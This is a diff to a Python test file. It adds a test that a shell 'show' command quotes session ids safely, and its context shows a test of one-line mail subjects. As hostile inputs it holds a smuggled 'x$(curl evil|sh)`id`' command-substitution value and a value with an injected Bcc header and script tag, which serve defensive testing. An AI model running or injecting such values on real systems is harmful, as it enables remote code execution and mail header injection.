@@ -112,3 +112,10 @@ def test_the_subject_of_a_session_mail_is_one_line():
         "[WMS ERROR] Measurement failed: <!here>&co (<!channel> <http://x|y> & <script>alert(1)</script> \ufffdpaid\ufffd)"
         " - session s\ufffd Bcc: victim@example.com <!channel>"
     )
+
+
+def test_the_show_command_in_a_message_is_safe_to_paste_into_a_shell():
+    from workers.destinations.session_view import show_command
+
+    assert show_command("s-1") == "relay sessions show s-1"
+    assert show_command("x$(curl evil|sh)`id`") == "relay sessions show 'x$(curl evil|sh)`id`'"
